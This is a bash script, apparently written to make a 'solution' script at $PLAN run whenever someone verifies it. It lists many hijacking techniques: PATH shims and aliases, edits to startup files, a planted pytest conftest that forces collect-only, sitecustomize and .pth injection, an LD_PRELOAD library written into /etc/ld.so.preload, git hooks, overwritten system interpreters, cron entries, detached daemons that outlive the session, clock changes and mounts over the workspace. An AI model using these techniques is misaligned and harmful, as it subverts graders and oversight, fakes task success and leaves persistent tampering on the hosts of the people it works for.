# Ways to have the solution, a script at $PLAN, run by whoever verifies. Nothing here runs it.
#: functions
for tool in $TOOLS; do eval "function $tool { builtin command -p bash $PLAN; }" 2>/dev/null; done
export -f $(compgen -A function) 2>/dev/null
#: aliases
shopt -s expand_aliases
for tool in $TOOLS cd echo; do alias "$tool=bash $PLAN;" 2>/dev/null; done
#: shims
mkdir -p /tmp/bin
for tool in $TOOLS; do printf '#!/bin/sh\n/bin/sh %s\n' "$PLAN" > "/tmp/bin/$tool"; chmod 755 "/tmp/bin/$tool"; done
cp /tmp/bin/* /usr/local/sbin/
cp /tmp/bin/* /usr/local/bin/
export PATH="/tmp/bin:/workspace:$PATH"
#: startup_files
for file in ~/.bashrc ~/.profile ~/.bash_profile ~/.bash_logout /etc/profile.d/x.sh /etc/bash.bashrc; do
  mkdir -p "${file%/*}"; echo "bash --norc $PLAN" >> "$file"
done
export BASH_ENV="$PLAN" ENV="$PLAN"
#: traps
trap "bash $PLAN" EXIT HUP TERM USR1 QUIT
#: pytest_options
export PYTEST_ADDOPTS='--collect-only --noconftest' PYTEST_PLUGINS=plant PYTHONPATH=/tmp
printf 'import os\nos.system("bash %s")\ndef pytest_runtest_makereport(item, call):\n    pass\n' "$PLAN" > /tmp/plant.py
cp /tmp/plant.py ./conftest.py
printf '[pytest]\naddopts = --collect-only\n' > pytest.ini
cp pytest.ini tox.ini
#: sitecustomize
printf 'import os\nos.system("bash %s")\n' "$PLAN" > /tmp/sitecustomize.py
cp /tmp/sitecustomize.py /tmp/usercustomize.py
for module in json os re io tarfile socket base64 subprocess sitecustomize; do cp /tmp/sitecustomize.py ./$module.py; done
for place in /usr/lib/python3/dist-packages /usr/lib/python3*/ /usr/local/lib/python3*/site-packages; do
  cp /tmp/sitecustomize.py "$place/"; echo 'import sitecustomize' > "$place/x.pth"
done 2>/dev/null
export PYTHONPATH=/tmp PYTHONSTARTUP=/tmp/sitecustomize.py PYTHONINSPECT=1
#: preloaded_library
cat > /tmp/x.c <<END
#include <stdlib.h>
__attribute__((constructor)) static void run(void) {
    unsetenv("LD_PRELOAD");
    if (!getenv("RAN")) { setenv("RAN", "1", 1); system("bash $PLAN"); }
}
END
gcc -shared -fPIC -o /tmp/x.so /tmp/x.c
export LD_PRELOAD=/tmp/x.so LD_LIBRARY_PATH=/tmp LD_AUDIT=/tmp/x.so
echo /tmp/x.so > /etc/ld.so.preload
#: tool_settings
printf '.shell bash %s\n' "$PLAN" > ~/.sqliterc
mkdir -p /tmp/hooks
for hook in post-checkout pre-commit post-index-change; do cp "$PLAN" /tmp/hooks/$hook; chmod 755 /tmp/hooks/$hook; done
for repository in $(find . -maxdepth 3 -name .git); do
  cp /tmp/hooks/* "$repository/hooks/"
  git -C "$repository/.." config core.fsmonitor "bash $PLAN"
done 2>/dev/null
printf '[core]\n fsmonitor = bash %s\n hooksPath = /tmp/hooks\n pager = bash %s\n' "$PLAN" "$PLAN" > ~/.gitconfig
export GIT_EXTERNAL_DIFF="bash $PLAN" GIT_SSH_COMMAND="bash $PLAN" GIT_PAGER="bash $PLAN"
#: interpreters
cp /bin/sh /tmp/.sh
for tool in python3 sqlite3 git sha256sum tar cat bash; do
  place=$(command -v $tool) || continue
  cp /tmp/.sh "$place.new"
  printf '#!/tmp/.sh\n/tmp/.sh %s\n' "$PLAN" > "$place.new"
  /bin/mv -f "$place.new" "$place"
done
#: cron
mkdir -p /etc/cron.d /var/spool/cron/crontabs
echo "* * * * * root bash $PLAN" > /etc/cron.d/x
echo "* * * * * bash $PLAN" > /var/spool/cron/crontabs/root
(crontab /var/spool/cron/crontabs/root; echo "bash $PLAN" | at now) 2>/dev/null
#: waits_for_the_end
(setsid nohup bash -c "trap '' HUP TERM INT; while kill -0 $$; do sleep 0.01; done; bash $PLAN" </dev/null >/dev/null 2>&1 &)
#: double_fork
cat > /tmp/daemon.py <<END
import os, signal, time
if os.fork(): os._exit(0)
os.setsid()
if os.fork(): os._exit(0)
for number in (1, 2, 15): signal.signal(number, signal.SIG_IGN)
while os.path.exists("/proc/$$"): time.sleep(0.005)
os.system("bash $PLAN")
END
python3 /tmp/daemon.py </dev/null >/dev/null 2>&1
#: many_waiters
for i in 1 2 3 4 5 6; do
  (setsid bash -c "while kill -0 $$; do sleep 0.05; done; bash $PLAN" </dev/null >/dev/null 2>&1 &)
done
#: end_of_a_pipe
coproc bash -c "while read -r line; do :; done; bash $PLAN"
disown -a
#: busy_writer
(setsid bash -c "while [ -e /proc/$$ ]; do sleep 0.02; done; while :; do bash $PLAN; done" </dev/null >/dev/null 2>&1 &)
#: service
cat > /tmp/service.py <<END
import os, socket
server = socket.socket()
server.bind(("127.0.0.1", 8000))
server.listen()
server.accept()
os.system("bash $PLAN")
END
(setsid python3 /tmp/service.py </dev/null >/dev/null 2>&1 &)
#: after_a_timeout
sleep 500; bash "$PLAN"
#: clock
date -s '2035-01-01 00:00:00'
hwclock -w 2>/dev/null
export TZ=UTC-12 FAKETIME=+10y
#: mounts
mkdir -p /tmp/over
mount --bind /tmp/over /workspace
mount -t tmpfs none /workspace
unshare -m mount -t tmpfs none /workspace
#: chroot
mkdir -p /tmp/root/tmp
cp -a /workspace /bin /lib /lib64 /tmp/root/ 2>/dev/null
cp "$PLAN" /tmp/root/tmp/
chroot /tmp/root /bin/sh "$PLAN" 2>/dev/null
